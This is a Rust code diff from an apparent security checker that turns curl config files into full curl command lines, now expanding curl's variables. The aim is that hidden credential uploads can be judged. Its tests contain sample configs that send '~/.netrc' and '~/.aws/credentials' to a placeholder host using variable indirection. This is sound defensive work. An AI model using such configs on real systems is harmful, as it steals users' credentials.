@@ -42,8 +42,10 @@ pub(super) fn judge(called: &Called<'_>, (path, script): (&str, &str), context: 
 fn line(text: &str) -> Option<String> {
     let lines = text.lines().map(str::trim).filter(|line| !line.is_empty() && !line.starts_with('#'));
     let options: Vec<(&str, String)> = lines.take(LINES).map(option).collect::<Option<_>>()?;
+    let options = expanded(options);
     let is_one = options.iter().any(|(name, _)| KNOWN.contains(name));
-    let words = options.into_iter().map(|(name, value)| match value.as_str() {
+    let options = options.into_iter().map(|(name, value)| (name, filled(&value)));
+    let words = options.map(|(name, value)| match value.as_str() {
         "" => format!("--{name}"),
         value => format!("--{name} {}", quote(value)),
     });
@@ -57,7 +59,22 @@ fn option(line: &str) -> Option<(&str, String)> {
     let (name, rest) = line.split_at_checked(end)?;
     let is_apart = rest.is_empty() || rest.starts_with([' ', '=', ':', '\t']);
     let value = rest.trim_start_matches([' ', '=', ':', '\t']).trim().trim_matches('"');
-    (name.len() > 2 && is_apart).then(|| (name, filled(value)))
+    (name.len() > 2 && is_apart).then(|| (name, value.to_owned()))
+}
+
+/// The options with curl's own variables put in: `variable = %HOME`, `expand-data = "{{HOME}}/x"`.
+fn expanded(options: Vec<(&str, String)>) -> Vec<(&str, String)> {
+    let said: Vec<String> =
+        options.iter().filter(|(name, _)| *name == "variable").map(|(_, value)| value.clone()).collect();
+    if said.is_empty() {
+        return options;
+    }
+    let rest = options.into_iter().filter(|(name, _)| *name != "variable");
+    rest.map(|(name, value)| match name.strip_prefix("expand-") {
+        Some(plain) => (plain, shell::curl_text(&said, &value)),
+        None => (name, value),
+    })
+    .collect()
 }
 
 /// The value with a home for the hole that it begins with: which folder a script puts there is not known.
@@ -83,6 +100,16 @@ mod tests {
             Some("curl --silent --url https://a.example.net --upload-file '~/.netrc'")
         );
         assert_eq!(line("data = \"@@HOME@/.aws/credentials\"\n").as_deref(), Some("curl --data '@~/.aws/credentials'"));
+        for (settings, sent) in [
+            (
+                "variable = %HOME\nvariable = name=netrc\nexpand-upload-file = \"{{HOME}}/.{{name}}\"\n",
+                "--upload-file '~/.netrc'",
+            ),
+            ("variable = k@~/.aws/credentials\nexpand-data = \"k={{k:url}}\"\n", "@~/.aws/credentials"),
+        ] {
+            let whole = line(&format!("url = \"https://a.example.net\"\n{settings}"));
+            assert!(whole.as_deref().is_some_and(|line| line.contains(sent)), "{whole:?}");
+        }
         for other in ["NAME=1\nurl=2\n", "colour: red\n", "{\"url\": 1}\n"] {
             assert_eq!(line(other), None, "{other}");
         }
